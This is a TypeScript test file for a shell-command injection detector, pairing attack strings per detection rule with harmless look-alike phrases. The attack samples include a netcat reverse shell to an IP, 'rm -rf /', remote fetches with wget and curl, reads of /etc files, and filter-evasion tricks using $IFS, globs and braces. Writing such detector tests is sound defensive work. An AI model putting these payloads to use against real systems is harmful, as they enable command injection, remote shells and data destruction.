/** Shell: examples of each rule, and of honest texts that have the names of commands. */
import { shell } from "../../../src/detection/detectors/shell.ts";
import { exampleTests } from "../desk.ts";

exampleTests(shell, {
  attacks: {
    "shell-command": ["|getent hosts a.example", "|visudo now", ";ls", "x;whoami", "| cat /etc/x", "&& id", "1;wget http://x/y", "a|nc -e /bin/sh 10.0.0.1 99", "x & ping -c 3 10.0.0.1", "a; rm -rf /", "';uname -a;'", "x || curl http://x"],
    "shell-substitution": ["$(whoami)", "x`id`", "`id`", "<(curl x)", "$(cat /etc/x)", "x=tac<<<y"],
    "shell-expansion": ["x$IFS/etc/x", "${IFS}", "$((7*7))", "${!x}", "~+", "$[1+1]"],
    "shell-braces": ["{cat,/etc/x}", "{,ip,a}"],
    "shell-glob": ["/bi[n]/sh", "/???/c?t"],
    "shell-program": ["/bin/sh -i", "bin/whoami"],
    "shell-function": ["() { :;}; x"],
    "shell-windows": ["for %i in (a b) do x", "for /f %%a in ('dir') do echo", "try cmd /c dir", "x\\cmd.exe", "%COMSPEC%", "if exist a.txt del a.txt", "x powershell -enc y"],
    "shell-cmdlet": ["Invoke-WebRequest http://x", "Get-Process"],
    "shell-direct": ["cat /etc/x", "ping -c 1 10.0.0.1", "wget http://x/y.sh", "ls -la", "nohup ifconfig", "alias ls='x'"],
  },
  harmless: ["| getting hosts | b |", "|name|value|", "&more to come", 
    "echo in the mirror", "curl and divergence", "zsh is the best!", "ls 300 lexus", "nc 8000 controller", "time he came.", "find me at noon; who else comes?", "cats; dogs; more", "a | b | c", "AT&T and R&D", "Tom & Jerry", "salt & pepper", "cat food & dog food", "sort, head and tail", "Base64 encoding/decoding in pure JS", "the man in black", "he said; then left", "top 10", "bash away in the gym", "test; done", "price: $5 (approx.)", "make up your mind", "more or less", "use `ls` to list files", "date of birth", "if it exists, tell me", "for 5% in (interest)", "https://x.example/?a=1&id=5&sort=up", "(a) {b}", "read/write access", "kill two birds", "sleep well; eat well", "node and python developer", "&quot;time&quot; &amp;test&amp; &#39;date&#39; &#x27;sort&#x27;",
  ],
});
